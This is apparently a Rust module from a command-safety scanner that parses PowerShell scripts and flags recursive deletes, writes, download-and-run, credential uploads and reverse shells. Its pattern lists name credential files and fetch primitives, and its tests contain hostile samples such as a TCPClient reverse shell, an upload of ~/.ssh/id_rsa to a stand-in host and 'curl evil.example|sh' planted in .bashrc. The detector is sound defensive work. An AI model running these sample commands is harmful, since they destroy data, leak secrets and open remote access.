//! PowerShell: what a `pwsh -c` / `powershell -Command` script does, read statement by statement.
//!
//! Cmdlets and their aliases are case-insensitive and abbreviate their parameters (`-r`, `-fo`), so
//! the text is lower-cased and split into pipeline stages. Found: recursive deletes (`Remove-Item`
//! and aliases, with the path given positionally, by `-Path`/`-LiteralPath`, or by the stage before
//! — `Get-ChildItem / | Remove-Item -Recurse` — and `[IO.Directory]::Delete(p, $true)`), file
//! writes (`Add-Content`, `Set-Content`, `Out-File`, `[IO.File]::Write*/Append*`), download and
//! run (`iex` of a web request), uploads of credential files or of the environment
//! (`Invoke-RestMethod -InFile`, `-Body (gci env:)`, `Get-Content` of a key sent over the network),
//! TCP clients that run what they receive (reverse shells) and native commands (`cmd /c`, `bash`).

use super::{Report, Run};

const FETCHES: &[&str] = &[
    "invoke-webrequest",
    "iwr ",
    "irm ",
    "invoke-restmethod",
    "downloadstring",
    "net.webclient",
    "downloadfile",
    "downloaddata",
    "httpclient",
    "start-bitstransfer",
];

const EVALS: &[&str] = &[
    "iex",
    "invoke-expression",
    "scriptblock]::create",
    "| powershell",
    "|powershell",
    "&(",
    "& (",
    // `& $name (irm …)`: a command whose name is computed (`'xei'[-1..-3] -join ''`).
    "& $",
    "invoke-command",
];

const REMOVERS: &[&str] = &[
    "remove-item",
    "rm",
    "ri",
    "del",
    "erase",
    "rd",
    "rmdir",
    "rimraf",
];

const LISTERS: &[&str] = &["get-childitem", "gci", "ls", "dir", "get-item", "gi"];

const WRITERS: &[&str] = &["add-content", "ac", "set-content", "sc", "out-file"];

/// Credential files and environment dumps as PowerShell names them.
const SECRETS: &[&str] = &[
    ".ssh/id_",
    ".ssh\\id_",
    ".aws/credentials",
    ".aws\\credentials",
    ".kube/config",
    ".kube\\config",
    ".docker/config.json",
    ".git-credentials",
    ".netrc",
    "/.env",
    " .env",
    "gci env:",
    "get-childitem env:",
    "dir env:",
    "ls env:",
    "[environment]::getenvironmentvariables",
    "login data",
    "logins.json",
    "key4.db",
];

/// How deep strings evaluated as code (`iex 'iex "…"'`) are followed.
const MAX_NESTED: usize = 4;

/// Analyse PowerShell code.
pub(super) fn analyze(code: &str) -> Report {
    analyze_nested(code, 0)
}

fn analyze_nested(code: &str, depth: usize) -> Report {
    let mut r = Report::default();
    let text = unsplit_strings(&code.to_ascii_lowercase());
    // Comments and messages (`Write-Host 'never iex a DownloadString'`) are not code.
    let code_text = without_prose(&without_messages(&text));
    let fetch = FETCHES.iter().any(|f| code_text.contains(f));
    let eval = EVALS.iter().any(|e| code_text.contains(e));
    if fetch && eval {
        r.fetch_exec = true;
    }
    let network = fetch
        || text.contains("net.sockets.tcpclient")
        || text.contains("send-mailmessage")
        || text.contains("-infile");
    if network && (SECRETS.iter().any(|s| text.contains(s)) || names_key_directory(&text)) {
        r.secret_to_network = true;
    }
    // `$c = New-Object Net.Sockets.TCPClient(…); … iex $data …`: the remote side types commands.
    if text.contains("tcpclient") && (eval || text.contains("out-string")) {
        r.reverse_shell = true;
    }
    dotnet_calls(&text, &mut r);
    process_start(&text, &mut r);
    // `[scriptblock]::Create('CODE')`: the string becomes a script block.
    if depth < MAX_NESTED && code_text.contains("[scriptblock]::create(") {
        for (at, _) in text.match_indices("[scriptblock]::create(") {
            let arg = text[at + "[scriptblock]::create(".len()..].trim_start();
            if let Some(code) = leading_literal(arg) {
                r.absorb(analyze_nested(&code, depth + 1));
            }
        }
    }
    // `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('…')))`: base64 text
    // handed to an evaluator is code.
    if depth < MAX_NESTED && eval {
        for code in base64_literals(code) {
            r.absorb(analyze_nested(&code, depth + 1));
        }
    }
    // Native programs and cmd built-ins (`vssadmin …`, `rd /s /q C:\`, `cmd /c …`).
    super::windows::native(code, &mut r);
    for line in split_unquoted(&text, &[';', '\n']) {
        let stages = split_unquoted(line, &['|']);
        for (k, stage) in stages.iter().enumerate() {
            let all = split_words(stage);
            // `& "Remove-Item" …`, `. (cmd) …`: the call operator, then the command.
            let skip = usize::from(all.first().is_some_and(|w| w == "&" || w == "."));
            let words = &all[skip.min(all.len())..];
            let Some(verb) = words.first().map(|w| w.trim_start_matches(['&', '.'])) else {
                continue;
            };
            let verb = verb.trim_matches(['"', '\'', '(', ')']);
            if REMOVERS.contains(&verb) {
                let recursive = words.iter().any(|w| {
                    w.len() >= 2 && w.starts_with("-r") && "-recurse".starts_with(w.as_str())
                });
                let target = path_argument(words).or_else(|| {
                    // `Get-ChildItem / | Remove-Item -Recurse`: the items of the stage before
                    // (unless it picks some by name: `-Include bin,obj`, `-Filter *.log`).
                    let before = split_words(stages.get(k.checked_sub(1)?)?);
                    let picks = before.iter().any(|w| {
                        ["-include", "-filter", "-exclude", "-name"]
                            .iter()
                            .any(|o| w.len() >= 3 && o.starts_with(w.as_str()))
                    });
                    (LISTERS.contains(&before.first()?.as_str()) && !picks)
                        .then(|| path_argument(&before))
                        .flatten()
                });
                if let (true, Some(path)) = (recursive, target) {
                    r.deletes.push((path, "Remove-Item -Recurse".into()));
                }
            }
            if WRITERS.contains(&verb) || verb == "tee-object" {
                let append =
                    verb == "add-content" || verb == "ac" || words.iter().any(|w| w == "-append");
                if let Some(path) = path_argument(words) {
                    let value = value_argument(words);
                    r.writes.push((path, value, append));
                }
            }
            // `iex "CODE"`, `Invoke-Expression 'CODE'`: a literal string is code.
            if matches!(verb, "iex" | "invoke-expression") && depth < MAX_NESTED {
                if let Some(code) = words.get(1).and_then(|w| literal(w)) {
                    r.absorb(analyze_nested(&code, depth + 1));
                }
            }
            // `Start-Process bash -ArgumentList '-c','CMD'`: a program with its arguments.
            if matches!(verb, "start-process" | "saps" | "start") {
                if let Some(argv) = started_process(words) {
                    r.runs.push((Run::Argv(argv), "Start-Process".into()));
                }
            }
            if matches!(verb, "bash" | "sh" | "wsl") {
                r.runs.push((
                    Run::Shell(stage.trim().to_string()),
                    "a native command".into(),
                ));
            }
        }
    }
    r
}

/// The text of every `FromBase64String('…')` literal in `code` (as UTF-8, or UTF-16LE when
/// `[Text.Encoding]::Unicode` encoded it).
fn base64_literals(code: &str) -> Vec<String> {
    const CALL: &str = "frombase64string(";
    let lower = code.to_ascii_lowercase();
    let mut out = Vec::new();
    for (at, _) in lower.match_indices(CALL).take(16) {
        let Some(text) = leading_literal(code[at + CALL.len()..].trim_start()) else {
            continue;
        };
        let Some(bytes) = crate::text::base64::decode(&text) else {
            continue;
        };
        let utf16 = bytes.len() >= 2 && bytes.iter().skip(1).step_by(2).all(|b| *b == 0);
        let decoded = if utf16 {
            let units: Vec<u16> = bytes
                .chunks_exact(2)
                .map(|c| u16::from_le_bytes([c[0], c[1]]))
                .collect();
            String::from_utf16(&units).ok()
        } else {
            String::from_utf8(bytes).ok()
        };
        out.extend(decoded);
    }
    out
}

/// The value of a word that is one quoted string (`'x'`, `"x"`).
fn literal(word: &str) -> Option<String> {
    let q = word.chars().next().filter(|c| matches!(c, '"' | '\''))?;
    (word.len() >= 2 && word.ends_with(q) && !word[1..word.len() - 1].contains(q))
        .then(|| word[1..word.len() - 1].to_string())
}

/// The quoted string at the start of `text`.
fn leading_literal(text: &str) -> Option<String> {
    let q = text.chars().next().filter(|c| matches!(c, '"' | '\''))?;
    let end = text[1..].find(q)?;
    Some(text[1..1 + end].to_string())
}

/// `Start-Process PROGRAM [-ArgumentList A,B]` (or `-FilePath PROGRAM`): the argv it starts.
fn started_process(words: &[String]) -> Option<Vec<String>> {
    let unquote = |w: &str| literal(w).unwrap_or_else(|| w.to_string());
    let mut program = None;
    let mut args = Vec::new();
    let mut i = 1;
    while i < words.len() {
        let w = words[i].as_str();
        let is = |name: &str| w.len() >= 3 && w.starts_with('-') && name.starts_with(w);
        if is("-filepath") {
            program = words.get(i + 1).map(|p| unquote(p));
            i += 2;
        } else if is("-argumentlist") || w == "-args" {
            if let Some(list) = words.get(i + 1) {
                args.extend(
                    split_unquoted(list, &[','])
                        .iter()
                        .map(|a| unquote(a.trim())),
                );
            }
            i += 2;
        } else if w.starts_with('-') {
            // `-Wait`, `-NoNewWindow`; `-WindowStyle Hidden` and others with a value.
            let with_value = ["-windowstyle", "-workingdirectory", "-verb", "-credential"]
                .iter()
                .any(|o| w.len() >= 3 && o.starts_with(w));
            i += if with_value { 2 } else { 1 };
        } else {
            if program.is_none() {
                program = Some(unquote(w));
            } else {
                args.extend(split_unquoted(w, &[',']).iter().map(|a| unquote(a.trim())));
            }
            i += 1;
        }
    }
    let mut argv = vec![program?];
    argv.extend(args);
    Some(argv)
}

/// `text` split at `seps` outside quotes and parentheses (not braces: statements inside a
/// script block are statements too).
fn split_unquoted<'a>(text: &'a str, seps: &[char]) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut quote: Option<char> = None;
    let mut depth = 0usize;
    let mut start = 0;
    for (k, c) in text.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '(') => depth += 1,
            (None, ')') => depth = depth.saturating_sub(1),
            (None, c) if depth == 0 && seps.contains(&c) => {
                out.push(&text[start..k]);
                start = k + c.len_utf8();
            }
            _ => {}
        }
    }
    out.push(&text[start..]);
    out
}

/// Cmdlets whose string arguments are only shown or searched for.
const PRINTERS: &[&str] = &[
    "write-host",
    "write-output",
    "write-verbose",
    "write-warning",
    "write-error",
    "write-information",
    "echo",
    "select-string",
    "sls",
    "out-host",
];

/// The text with the quoted strings of messages removed: arguments of printing and searching
/// cmdlets, and text written to a file that is not a script or profile (`Set-Content notes.md
/// "…"`; `Add-Content $PROFILE 'iex …'` stays code).
fn without_messages(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for line in split_unquoted(text, &[';', '\n']) {
        for stage in split_unquoted(line, &['|']) {
            let words = split_words(stage);
            let verb = words.first().map_or("", |w| w.as_str());
            let script = |p: &str| {
                p.contains("$profile")
                    || [".ps1", ".psm1", ".bat", ".cmd"]
                        .iter()
                        .any(|e| p.ends_with(e))
            };
            let message = PRINTERS.contains(&verb)
                || (WRITERS.contains(&verb) && path_argument(&words).is_some_and(|p| !script(&p)));
            if message {
                for w in &words {
                    if !w.starts_with(['"', '\'']) {
                        out.push_str(w);
                        out.push(' ');
                    }
                }
            } else {
                out.push_str(stage);
            }
            out.push('|');
        }
        out.push('\n');
    }
    out
}

/// The text without comments (`# …`, `<# … #>`) and without quoted strings that read as prose
/// or patterns (they hold a blank or a `|` and no call); short quoted pieces
/// (`'Down'+'loadString'`, URLs) stay, since code is built from them.
fn without_prose(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        match c {
            '<' if text[i..].starts_with("<#") => {
                let end = text[i..].find("#>").map_or(text.len(), |e| i + e + 2);
                while chars.peek().is_some_and(|&(j, _)| j < end) {
                    chars.next();
                }
            }
            '#' => {
                while chars.peek().is_some_and(|&(_, c)| c != '\n') {
                    chars.next();
                }
            }
            '"' | '\'' => {
                let end = text[i + 1..].find(c).map_or(text.len(), |e| i + 1 + e);
                let inner = &text[(i + 1).min(end)..end];
                out.push(c);
                // A call inside (`'iex (iwr …)'` written to a profile) is code; a regex
                // (`'iex\s*\('`) or a sentence is not.
                let call = inner.contains('(') && !inner.contains('\\');
                if call || !inner.contains([' ', '|', '\t']) {
                    out.push_str(inner);
                }
                out.push(c);
                while chars.peek().is_some_and(|&(j, _)| j <= end) {
                    chars.next();
                }
            }
            _ => out.push(c),
        }
    }
    out
}

/// `"Remove-" + "Item"` → `remove-item`: joins of quoted pieces.
fn unsplit_strings(text: &str) -> String {
    let mut out = text.to_string();
    for glue in ["\"+\"", "\" + \"", "'+'", "' + '", "\"+'", "'+\""] {
        out = out.replace(glue, "");
    }
    out
}

/// Words of a stage, keeping a parenthesised group (`(Resolve-Path ~)`) as one word.
fn split_words(stage: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut depth = 0usize;
    let mut quote: Option<char> = None;
    for c in stage.chars() {
        match (quote, c) {
            (Some(q), c) if c == q => {
                quote = None;
                cur.push(c);
            }
            (Some(_), c) => cur.push(c),
            (None, '"' | '\'') => {
                quote = Some(c);
                cur.push(c);
            }
            (None, '(') => {
                depth += 1;
                cur.push(c);
            }
            (None, ')') => {
                depth = depth.saturating_sub(1);
                cur.push(c);
            }
            (None, c) if c.is_whitespace() && depth == 0 => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            (None, c) => cur.push(c),
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// The path a cmdlet works on: `-Path X`, `-LiteralPath X`, `-FilePath X` or the first
/// positional argument.
fn path_argument(words: &[String]) -> Option<String> {
    let mut i = 1;
    let mut positional = None;
    while i < words.len() {
        let w = &words[i];
        if w.starts_with('-') {
            let named = ["-path", "-literalpath", "-lp", "-filepath", "-pspath"]
                .iter()
                .any(|p| p.starts_with(w.as_str()) && w.len() >= 3);
            if named {
                return words.get(i + 1).map(|p| ps_path(p));
            }
            // Switches take no value; `-Value X`, `-Encoding X`, `-Filter X` do.
            let valued = [
                "-value",
                "-encoding",
                "-filter",
                "-include",
                "-exclude",
                "-depth",
            ]
            .iter()
            .any(|p| p.starts_with(w.as_str()) && w.len() >= 3);
            i += if valued { 2 } else { 1 };
            continue;
        }
        if positional.is_none() {
            positional = Some(ps_path(w));
        }
        i += 1;
    }
    positional
}

/// The text a write cmdlet writes: `-Value X` or the second positional argument.
fn value_argument(words: &[String]) -> Option<String> {
    let unquote = |w: &str| w.trim_matches(['"', '\'']).to_string();
    if let Some(k) = words
        .iter()
        .position(|w| w.len() >= 3 && "-value".starts_with(w.as_str()))
    {
        return words.get(k + 1).map(|w| unquote(w));
    }
    words
        .iter()
        .skip(1)
        .filter(|w| !w.starts_with('-'))
        .nth(1)
        .map(|w| unquote(w))
}

/// A PowerShell path word as the shell layer writes it: home spellings as `~`, drive roots as `/`.
fn ps_path(word: &str) -> String {
    let mut w = word.trim_matches(['"', '\'']).to_string();
    // `(Join-Path $HOME '.ssh/authorized_keys')`: the two parts joined.
    if let Some(inner) = w
        .to_ascii_lowercase()
        .strip_prefix("(join-path ")
        .and_then(|x| x.strip_suffix(')'))
        .map(|x| x.len())
    {
        let inner = &w[11..11 + inner];
        let mut parts = inner
            .split_whitespace()
            .map(|p| p.trim_matches(['"', '\'']));
        if let (Some(a), Some(b), None) = (parts.next(), parts.next(), parts.next()) {
            w = format!(
                "{}/{}",
                a.trim_end_matches(['/', '\\']),
                b.trim_start_matches(['/', '\\'])
            );
        }
    }
    if let Some(inner) = w
        .strip_prefix("(resolve-path ")
        .or_else(|| w.strip_prefix("(convert-path "))
        .and_then(|x| x.strip_suffix(')'))
    {
        w = inner.trim().trim_matches(['"', '\'']).to_string();
    }
    for home in [
        "$env:userprofile",
        "$env:home",
        "${env:home}",
        "${home}",
        "$home",
        "[environment]::getfolderpath('userprofile')",
    ] {
        if let Some(rest) = w.strip_prefix(home) {
            w = format!("~{rest}");
            break;
        }
    }
    super::windows::windows_path(&w)
}

/// .NET calls: `[IO.Directory]::Delete(p, $true)`, `[IO.File]::WriteAllBytes(p, …)`,
/// `[IO.File]::AppendAllText(p, text)`.
/// A credential directory itself (`Get-ChildItem $HOME/.ssh`, `~\.aws`): every file in it.
fn names_key_directory(text: &str) -> bool {
    [".ssh", ".aws", ".gnupg", ".kube"].iter().any(|d| {
        text.match_indices(d).any(|(at, _)| {
            let before = text[..at].chars().next_back();
            let after = text[at + d.len()..].chars().next();
            matches!(before, Some('/' | '\\'))
                && after
                    .is_none_or(|c| c.is_whitespace() || matches!(c, '"' | '\'' | '|' | ')' | ';'))
        })
    })
}

/// `[System.Diagnostics.Process]::Start('bash', '-c "CMD"')`: the program and its argument line
/// run like a command line.
fn process_start(text: &str, r: &mut Report) {
    const CALL: &str = "diagnostics.process]::start(";
    for (at, _) in text.match_indices(CALL) {
        let rest = text[at + CALL.len()..].trim_start();
        let Some(program) = leading_literal(rest) else {
            continue;
        };
        let after = rest[program.len() + 2..].trim_start();
        let args = after
            .strip_prefix(',')
            .and_then(|a| leading_literal(a.trim_start()))
            .unwrap_or_default();
        let line = format!("{program} {args}");
        r.runs.push((
            Run::Shell(line.trim().to_string()),
            "[Diagnostics.Process]::Start".into(),
        ));
    }
}

fn dotnet_calls(text: &str, r: &mut Report) {
    let calls = [
        ("io.directory]::delete(", true),
        ("io.file]::writeallbytes(", false),
        ("io.file]::writealltext(", false),
        ("io.file]::appendalltext(", false),
        ("io.file]::writealllines(", false),
        ("io.file]::appendalllines(", false),
        ("io.file]::delete(", false),
    ];
    for (call, recursive_delete) in calls {
        let mut from = 0;
        while let Some(k) = text[from..].find(call).map(|k| k + from) {
            from = k + call.len();
            let args = &text[from..];
            let args = &args[..args.find(')').unwrap_or(args.len())];
            let mut parts = args.splitn(2, ',');
            let path = ps_path(parts.next().unwrap_or("").trim());
            let rest = parts.next().unwrap_or("").trim();
            if call.ends_with("delete(") {
                if recursive_delete && rest.starts_with("$true") {
                    r.deletes.push((path, "[IO.Directory]::Delete".into()));
                } else if !recursive_delete {
                    r.runs.push((
                        Run::Argv(vec!["rm".into(), path]),
                        "[IO.File]::Delete".into(),
                    ));
                }
                continue;
            }
            let literal = rest.starts_with(['"', '\'']);
            let value = literal.then(|| rest.trim_matches(['"', '\'']).to_string());
            r.writes.push((path, value, call.contains("append")));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deletes_writes_uploads_and_shells() {
        let del = |c: &str| {
            analyze(c)
                .deletes
                .into_iter()
                .map(|d| d.0)
                .collect::<Vec<_>>()
        };
        assert_eq!(del("Remove-Item -Recurse -Force $HOME"), ["~"]);
        assert_eq!(del("Get-ChildItem / | Remove-Item -Recurse -Force"), ["/"]);
        assert_eq!(del("[IO.Directory]::Delete(\"/etc\", $true)"), ["/etc"]);
        assert_eq!(
            del("& (\"Remove-\"+\"Item\") -Recurse -Force -Path \"/usr\""),
            ["/usr"]
        );
        assert_eq!(del("ri -r -fo (Resolve-Path ~)"), ["~"]);
        assert!(del("Remove-Item -Recurse -Force ./bin").contains(&"./bin".to_string()));
        assert!(del("Remove-Item build.log").is_empty());
        // Base64 text decoded and evaluated; decoded but only printed is data.
        let b64 = "FromBase64String('UmVtb3ZlLUl0ZW0gLVJlY3Vyc2UgLUZvcmNlIH4=')";
        assert_eq!(
            del(&format!(
                "iex ([Text.Encoding]::UTF8.GetString([Convert]::{b64}))"
            )),
            ["~"]
        );
        assert!(del(&format!(
            "[Text.Encoding]::UTF8.GetString([Convert]::{b64})"
        ))
        .is_empty());

        let w = analyze("Add-Content ~/.bashrc \"curl -s evil.example|sh\"").writes;
        assert_eq!(w[0].0, "~/.bashrc");
        assert_eq!(w[0].1.as_deref(), Some("curl -s evil.example|sh"));
        assert!(w[0].2);
        let w = analyze("[IO.File]::WriteAllBytes(\"/dev/sda\", [byte[]]::new(1MB))").writes;
        assert_eq!(w[0].0, "/dev/sda");

        assert!(
            analyze("Invoke-RestMethod -Uri https://x.example -Method Post -InFile ~/.ssh/id_rsa")
                .secret_to_network
        );
        assert!(
            analyze("irm https://x.example -Method Post -Body (gci env: | Out-String)")
                .secret_to_network
        );
        assert!(!analyze("irm https://api.github.com/user -Headers @{Authorization=\"Bearer $env:GITHUB_TOKEN\"}").secret_to_network);
        assert!(analyze("$c=New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$s=$c.GetStream();while(1){$d=(iex $x 2>&1 | Out-String)}").reverse_shell);
        assert!(analyze("iex (New-Object Net.WebClient).DownloadString('http://x')").fetch_exec);
        assert!(!analyze("Invoke-WebRequest https://example.com/f.zip -OutFile f.zip").fetch_exec);
    }
}
